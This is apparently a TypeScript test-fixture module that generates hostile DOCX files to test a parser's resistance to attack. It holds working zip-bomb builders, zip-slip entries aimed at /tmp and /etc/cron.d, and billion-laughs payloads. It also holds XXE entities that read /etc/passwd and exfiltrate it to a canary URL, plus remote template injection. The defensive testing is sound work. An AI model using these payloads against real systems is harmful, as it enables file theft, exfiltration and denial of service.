/**
 * Hostile DOCX files: zip bombs (declared, lying, overlapping, nested, at the limit), archive
 * tricks, XML entity expansion ("billion laughs"), external entities (XXE) and external links,
 * deep nesting, and seeded one-byte flips of a valid DOCX.
 */
import { crc32 } from "node:zlib";
import type { DocumentReading } from "../../../src/core/ports/document-reader.ts";
import { buildDocx, buildZip, docxEntries, type ZipInput } from "../fixtures.ts";
import {
  BOMB,
  DAMAGED,
  type HostileCase,
  type HostileContext,
  type Outcome,
  seededBytes,
} from "./corpus-types.ts";
import { flipped, flips } from "./pdf-structure.ts";
import { concatBytes, deflateRawSegments, latin1, materialise, type Segment } from "./pdf-writer.ts";

const MiB = 1024 * 1024;
const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** One zip member as it will be written; sizes may lie. */
export type RawEntry = {
  name: string;
  compressed: Uint8Array;
  method: number;
  crc: number;
  size: number;
  declaredSize?: number;
  flags?: number;
  /** Write no local header; point the central record at this offset instead (overlapping entries). */
  sharesLocalOf?: number;
};

/** Deflates `segments` (repeats are never materialised) into a raw entry with a true CRC and size. */
export function deflatedEntry(name: string, segments: readonly Segment[]): RawEntry {
  let crc = 0;
  for (const segment of segments)
    for (let i = 0; i < (segment.repeat ?? 1); i++) crc = crc32(segment.data, crc);
  const size = segments.reduce((sum, s) => sum + s.data.length * (s.repeat ?? 1), 0);
  return { name, compressed: materialise(deflateRawSegments(segments)), method: 8, crc, size };
}

const entryOf = (input: ZipInput): RawEntry =>
  deflatedEntry(input.name, [{ data: typeof input.data === "string" ? latin1(input.data) : input.data }]);

/** A zip writer that, unlike fixtures' buildZip, takes pre-compressed data, flags, methods and shared locals. */
export function writeZip(entries: readonly RawEntry[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  const localOffsets: number[] = [];
  let offset = 0;
  const size32 = (n: number) => Math.min(n, 0xffffffff);
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const declared = size32(entry.declaredSize ?? entry.size);
    let at = offset;
    if (entry.sharesLocalOf === undefined) {
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt16LE(entry.flags ?? 0, 6);
      local.writeUInt16LE(entry.method, 8);
      local.writeUInt32LE(entry.crc >>> 0, 14);
      local.writeUInt32LE(entry.compressed.length, 18);
      local.writeUInt32LE(declared, 22);
      local.writeUInt16LE(name.length, 26);
      locals.push(local, name, entry.compressed);
      offset += local.length + name.length + entry.compressed.length;
    } else {
      at = localOffsets[entry.sharesLocalOf] as number;
    }
    localOffsets.push(at);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(entry.flags ?? 0, 8);
    central.writeUInt16LE(entry.method, 10);
    central.writeUInt32LE(entry.crc >>> 0, 16);
    central.writeUInt32LE(entry.compressed.length, 20);
    central.writeUInt32LE(declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(at, 42);
    centrals.push(central, name);
  }
  const directory = concatBytes(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return concatBytes([...locals, directory, end]);
}

const docxPackage = (): RawEntry[] =>
  docxEntries([])
    .filter((e) => e.name !== "word/document.xml")
    .map(entryOf);

/** A DOCX whose word/document.xml is the given XML. */
const docxWithDocument = (xml: string, extra: ZipInput[] = []): Uint8Array =>
  buildZip([
    ...docxEntries([]).filter((e) => e.name !== "word/document.xml"),
    { name: "word/document.xml", data: xml },
    ...extra,
  ]);

const documentXml = (body: string, doctype = ""): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${body}</w:body></w:document>`;

const para = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** document.xml = prefix + unit repeated to about `bytes` + suffix, deflated without materialising it. */
function repeatedDocument(unit: string, bytes: number): RawEntry {
  const xml = documentXml("@@", "").split("@@");
  const perBlock = Math.max(1, Math.min(Math.floor(MiB / unit.length), Math.floor(bytes / unit.length)));
  const block = latin1(unit.repeat(perBlock));
  return deflatedEntry("word/document.xml", [
    { data: latin1(xml[0] as string) },
    { data: block, repeat: Math.max(1, Math.floor(bytes / block.length)) },
    { data: latin1(xml[1] as string) },
  ]);
}

/** Adds a stored, incompressible image so the declared/compressed ratio stays near `ratio` (< 100). */
function paddedToRatio(entries: RawEntry[], ratio = 50): RawEntry[] {
  const declared = entries.reduce((sum, e) => sum + (e.declaredSize ?? e.size), 0);
  const compressed = entries.reduce((sum, e) => sum + e.compressed.length + 76 + e.name.length, 0);
  const need = Math.max(1024, Math.ceil(declared / ratio) - compressed);
  const data = seededBytes(9, need);
  return [
    ...entries,
    { name: "word/media/image1.png", compressed: data, method: 0, crc: crc32(data), size: need },
  ];
}

const docxEntriesRaw = (xml: string, extra: ZipInput[] = []): RawEntry[] => [
  ...docxPackage(),
  entryOf({ name: "word/document.xml", data: xml }),
  ...extra.map(entryOf),
];

const noPasswd = (r: DocumentReading): void => {
  if (r.ok && /root:[^\n]*:0:0:/.test(r.text)) throw new Error("the DOCX parser read /etc/passwd (XXE)");
  if (r.ok && r.text.includes("root:")) throw new Error("the extracted text contains root:");
};

const zipBomb = "zip-bomb-docx";
const xml = "xml-attack-docx";

export const zipBombs: readonly HostileCase[] = [
  {
    family: zipBomb,
    name: "declared 1 GiB document.xml",
    expect: ["expands-too-much"],
    build: () =>
      buildZip(
        docxEntries(["Jane"]).map((e) =>
          e.name === "word/document.xml" ? { ...e, declaredSize: 1024 * MiB } : e,
        ),
      ),
  },
  {
    family: zipBomb,
    name: "ZIP64 size markers (0xFFFFFFFF)",
    expect: ["expands-too-much"],
    build: () =>
      buildZip(
        docxEntries(["Jane"]).map((e) =>
          e.name === "word/document.xml" ? { ...e, declaredSize: 0xffffffff } : e,
        ),
      ),
  },
  {
    family: zipBomb,
    name: "honest sizes, 16 MiB of empty paragraphs at ratio > 100",
    expect: ["expands-too-much"],
    build: () => writeZip([...docxPackage(), repeatedDocument("<w:p/>", 16 * MiB)]),
  },
  {
    family: zipBomb,
    name: "lying sizes: 256 MiB of text declared as 2 KiB",
    expect: BOMB,
    build: () =>
      writeZip([
        ...docxPackage(),
        { ...repeatedDocument(para("Jane Doe data analyst "), 256 * MiB), declaredSize: 2048 },
      ]),
  },
  {
    family: zipBomb,
    name: "lying sizes: 512 MiB of one text node declared as 2 KiB",
    expect: BOMB,
    build: () => {
      const xmlParts = documentXml("<w:p><w:r><w:t>@@</w:t></w:r></w:p>").split("@@");
      const entry = deflatedEntry("word/document.xml", [
        { data: latin1(xmlParts[0] as string) },
        { data: new Uint8Array(MiB).fill(0x41), repeat: 512 },
        { data: latin1(xmlParts[1] as string) },
      ]);
      return writeZip([...docxPackage(), { ...entry, declaredSize: 2048 }]);
    },
  },
  {
    family: zipBomb,
    name: "honest sizes at the limits: 19 MiB of paragraphs, ratio just under 100",
    expect: ["ok", "out-of-memory", "timeout"],
    verify: (r) => {
      if (r.ok && !r.truncated) throw new Error("19 MiB of text should be truncated");
    },
    build: () =>
      writeZip(
        paddedToRatio(
          [...docxPackage(), repeatedDocument(para("Jane Doe, data analyst, Python and SQL."), 19 * MiB)],
          90,
        ),
      ),
  },
  {
    family: zipBomb,
    name: "overlapping entries (Fifield): 2,000 records share one 64 KiB kernel, sizes honest",
    expect: ["expands-too-much"],
    build: () => {
      const kernel = repeatedDocument(para("Jane Doe "), 64 * 1024);
      return writeZip([
        ...docxPackage(),
        kernel,
        ...Array.from({ length: 2000 }, (_, i) => ({
          ...kernel,
          name: `word/media/k${i}.xml`,
          sharesLocalOf: 3,
        })),
      ]);
    },
  },
  {
    family: zipBomb,
    name: "overlapping entries with lying sizes (declared 1 byte each)",
    expect: ["ok", "corrupt", "expands-too-much"],
    build: () => {
      const kernel = repeatedDocument(para("Jane Doe "), 64 * 1024);
      return writeZip([
        ...docxPackage(),
        kernel,
        ...Array.from({ length: 2000 }, (_, i) => ({
          ...kernel,
          name: `word/media/k${i}.xml`,
          sharesLocalOf: 3,
          declaredSize: 1,
        })),
      ]);
    },
  },
  {
    family: zipBomb,
    name: "42.zip-style nested archives stored inside word/media",
    expect: ["ok"],
    build: () => {
      const level1 = buildZip(
        Array.from({ length: 16 }, (_, i) => ({ name: `${i}.zip`, data: "x", declaredSize: 0xfffffffe })),
      );
      const level2 = buildZip(Array.from({ length: 16 }, (_, i) => ({ name: `l2-${i}.zip`, data: level1 })));
      return buildZip([
        ...docxEntries(["Jane Doe", "Data Analyst"]),
        { name: "word/media/42.zip", data: level2 },
      ]);
    },
  },
  {
    family: zipBomb,
    name: "10,001 entries (over the directory cap)",
    expect: ["unsupported-type", "expands-too-much"],
    build: () => {
      const empty = entryOf({ name: "x", data: "" });
      return writeZip([
        ...docxEntries(["Jane"]).map(entryOf),
        ...Array.from({ length: 10_001 }, (_, i) => ({ ...empty, name: `x/${i}` })),
      ]);
    },
  },
  {
    family: zipBomb,
    name: "traditional PKWARE encryption flag on document.xml",
    expect: ["corrupt", "encrypted"],
    build: () =>
      writeZip([
        ...docxPackage(),
        { ...entryOf({ name: "word/document.xml", data: documentXml(para("Jane")) }), flags: 1 },
      ]),
  },
  {
    family: zipBomb,
    name: "unknown compression method 99 (AES) on document.xml",
    expect: ["corrupt", "encrypted"],
    build: () =>
      writeZip([
        ...docxPackage(),
        { ...entryOf({ name: "word/document.xml", data: documentXml(para("Jane")) }), method: 99 },
      ]),
  },
  {
    family: zipBomb,
    name: "zip-slip entry names (../../../../tmp/evil.sh)",
    expect: ["ok"],
    build: () =>
      buildZip([
        ...docxEntries(["Jane Doe"]),
        { name: "../../../../tmp/evil.sh", data: "#!/bin/sh\nid\n" },
        { name: "/etc/cron.d/evil", data: "* * * * * root id\n" },
      ]),
  },
];

const laughs = (levels: number, fanout: number): string => {
  let dtd = '<!ENTITY lol0 "lol">';
  for (let level = 1; level <= levels; level++)
    dtd += `<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(fanout)}">`;
  return `<!DOCTYPE w:document [${dtd}]>`;
};

const xxeExpect: readonly Outcome[] = ["ok", "corrupt", "empty"];

export const xmlAttacks: readonly HostileCase[] = [
  {
    family: xml,
    name: "billion laughs: 10 levels x 10 in document.xml",
    expect: [...BOMB, "ok"],
    verify: (r) => {
      if (r.ok && r.text.includes("lollollollollol")) throw new Error("entities were expanded");
    },
    build: () => docxWithDocument(documentXml(para("Jane Doe &lol10;"), laughs(10, 10))),
  },
  {
    family: xml,
    name: "quadratic blowup: a 64 KiB entity referenced 20,000 times",
    expect: [...BOMB, "ok"],
    build: () =>
      writeZip(
        paddedToRatio(
          docxEntriesRaw(
            documentXml(
              para(`Jane Doe ${"&big;".repeat(20_000)}`),
              `<!DOCTYPE w:document [<!ENTITY big "${"B".repeat(65_536)}">]>`,
            ),
          ),
        ),
      ),
  },
  {
    family: xml,
    name: "XXE: SYSTEM entity file:///etc/passwd in document.xml",
    expect: xxeExpect,
    verify: noPasswd,
    build: () =>
      docxWithDocument(
        documentXml(
          para("Jane Doe &xxe;"),
          '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        ),
      ),
  },
  {
    family: xml,
    name: "XXE: parameter entity and external DTD from the canary",
    expect: xxeExpect,
    verify: noPasswd,
    build: (c: HostileContext) =>
      docxWithDocument(
        documentXml(
          para("Jane Doe &exfil;"),
          `<!DOCTYPE w:document SYSTEM "${c.canaryUrl}/doc.dtd" [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${c.canaryUrl}/evil.dtd">%dtd;<!ENTITY exfil SYSTEM "${c.canaryUrl}/?x=%file;">]>`,
        ),
      ),
  },
  {
    family: xml,
    name: "XXE in [Content_Types].xml and _rels/.rels",
    expect: xxeExpect,
    verify: noPasswd,
    build: () =>
      buildZip(
        docxEntries(["Jane Doe"]).map((e) =>
          e.name === "word/document.xml"
            ? e
            : {
                ...e,
                data: String(e.data)
                  .replace(
                    '<?xml version="1.0" encoding="UTF-8"?>',
                    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                  )
                  .replace("<Default ", "<!-- &xxe; --><Default "),
              },
        ),
      ),
  },
  {
    family: xml,
    name: "external image r:link to file:///etc/passwd and to the canary (CVE-2025-11849 shape)",
    expect: ["ok"],
    verify: noPasswd,
    build: (c: HostileContext) => {
      const drawing = (id: string) =>
        `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="x" descr="x"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
      return docxWithDocument(documentXml(`${para("Jane Doe")}${drawing("rIdA")}${drawing("rIdB")}`), [
        {
          name: "word/_rels/document.xml.rels",
          data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdA" Type="${R}/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="rIdB" Type="${R}/image" Target="${c.canaryUrl}/image.png" TargetMode="External"/></Relationships>`,
        },
      ]);
    },
  },
  {
    family: xml,
    name: "remote template injection (attachedTemplate to the canary)",
    expect: ["ok"],
    build: (c: HostileContext) =>
      docxWithDocument(documentXml(para("Jane Doe")), [
        {
          name: "word/settings.xml",
          data: `<?xml version="1.0"?><w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        },
        {
          name: "word/_rels/settings.xml.rels",
          data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${c.canaryUrl}/template.dotm" TargetMode="External"/></Relationships>`,
        },
      ]),
  },
  {
    family: xml,
    name: "100k-deep nested XML elements in document.xml",
    expect: [...DAMAGED, "out-of-memory", "timeout"],
    build: () =>
      writeZip(
        paddedToRatio(
          docxEntriesRaw(
            documentXml(
              `${"<w:sdt><w:sdtContent>".repeat(100_000)}${para("Jane")}${"</w:sdtContent></w:sdt>".repeat(100_000)}`,
            ),
          ),
        ),
      ),
  },
  {
    family: xml,
    name: "document.xml is binary garbage",
    expect: ["corrupt", "empty"],
    build: () =>
      buildZip([
        ...docxEntries([]).filter((e) => e.name !== "word/document.xml"),
        { name: "word/document.xml", data: seededBytes(11, 4096) },
      ]),
  },
  {
    family: xml,
    name: "document.xml declared as UTF-16 but written as UTF-8",
    expect: DAMAGED,
    build: () =>
      docxWithDocument(documentXml(para("Jane Doe")).replace('encoding="UTF-8"', 'encoding="UTF-16"')),
  },
];

const sampleDocx = (): Uint8Array => buildDocx(["Jane Doe", "Data Analyst", "Skills: Python, SQL"]);

/** Where the central directory starts, so flips there can be expected to change the sniffed type. */
const centralStart = (zip: Uint8Array): number =>
  new DataView(zip.buffer, zip.byteOffset).getUint32(zip.length - 6, true);

const directoryFlip: readonly Outcome[] = [...DAMAGED, "unsupported-type", "expands-too-much"];

export const flippedDocx: readonly HostileCase[] = flips(0x10c, sampleDocx().length, 15).map(
  ({ at, mask }) => ({
    family: "byte-flip-docx",
    name: `byte ${at} ^ 0x${mask.toString(16).padStart(2, "0")}${at >= centralStart(sampleDocx()) ? " (central directory)" : at < 4 ? " (magic)" : ""}`,
    expect: at >= centralStart(sampleDocx()) || at < 4 ? directoryFlip : DAMAGED,
    build: () => flipped(sampleDocx(), at, mask),
  }),
);
